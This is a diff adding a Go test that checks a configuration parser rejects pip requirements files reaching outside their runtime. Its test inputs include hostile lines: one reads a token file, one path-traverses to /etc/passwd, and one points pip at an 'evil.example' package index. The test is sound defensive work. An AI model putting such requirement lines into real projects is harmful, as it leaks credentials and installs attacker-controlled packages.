@@ -152,6 +152,56 @@ func TestReadRuntimeMissingInRepository(t *testing.T) {
 	}
 }
 
+// A pusher of CONFGIT cannot make pip read a file of the minion's machine
+// (its error would show the file's text) nor choose where packages come
+// from: such requirements refuse the configuration, from a commit as from
+// files on disk.
+func TestRuntimeRequirementsReachingOut(t *testing.T) {
+	tests := []struct {
+		name    string
+		files   map[string]string
+		wantErr string
+	}{
+		{name: "token file", files: map[string]string{"runtimes/fn/requirements.txt": "requests\n-r /etc/lorry-controller/minion.token\n"},
+			wantErr: "runtimes/fn/requirements.txt line 2"},
+		{name: "up and out", files: map[string]string{"runtimes/fn/requirements.txt": "-c ../../../etc/passwd\n"}, wantErr: "outside"},
+		{name: "index", files: map[string]string{"runtimes/fn/requirements.txt": "--extra-index-url=https://evil.example/simple\nrequests\n"},
+			wantErr: "--extra-index-url"},
+		{name: "through an included file", files: map[string]string{"runtimes/fn/requirements.txt": "-r more.txt\n",
+			"runtimes/fn/more.txt": "x @ file:///etc/passwd\n"}, wantErr: "runtimes/fn/more.txt line 1"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			files := scraperFiles()
+			for k, v := range tc.files {
+				files[k] = v
+			}
+			check := func(what string, err error) {
+				t.Helper()
+				var ce *ConfError
+				if !errors.Is(err, ErrBadConf) || !errors.As(err, &ce) || ce.Section != 0 || ce.Key != "path" ||
+					!strings.Contains(err.Error(), tc.wantErr) {
+					t.Errorf("%s: got %v, want a *ConfError of section [0], key path, saying %q", what, err, tc.wantErr)
+				}
+			}
+			_, err := Parse(mapFS(files))
+			check("Parse", err)
+			repo := newTestRepo(t, "master")
+			repo.commit(files)
+			_, err = (&Source{Dir: repo.dir}).Read(context.Background())
+			check("Read", err)
+		})
+	}
+	// Files of the runtime named from within it are fine.
+	files := scraperFiles()
+	files["runtimes/fn/requirements.txt"] = "-r more.txt\n-e .\n"
+	files["runtimes/fn/more.txt"] = "requests==2.31.0 --hash=sha256:0123\n"
+	repo := newTestRepo(t, "master")
+	repo.commit(files)
+	readOK(t, &Source{Dir: repo.dir})
+	mustParse(t, files)
+}
+
 func TestParseScrapers(t *testing.T) {
 	cfg := mustParse(t, scraperFiles())
 	if got, want := lorryPaths(cfg), []string{"scrape/bills", "scrape/news", "scrape/votes"}; !reflect.DeepEqual(got, want) {
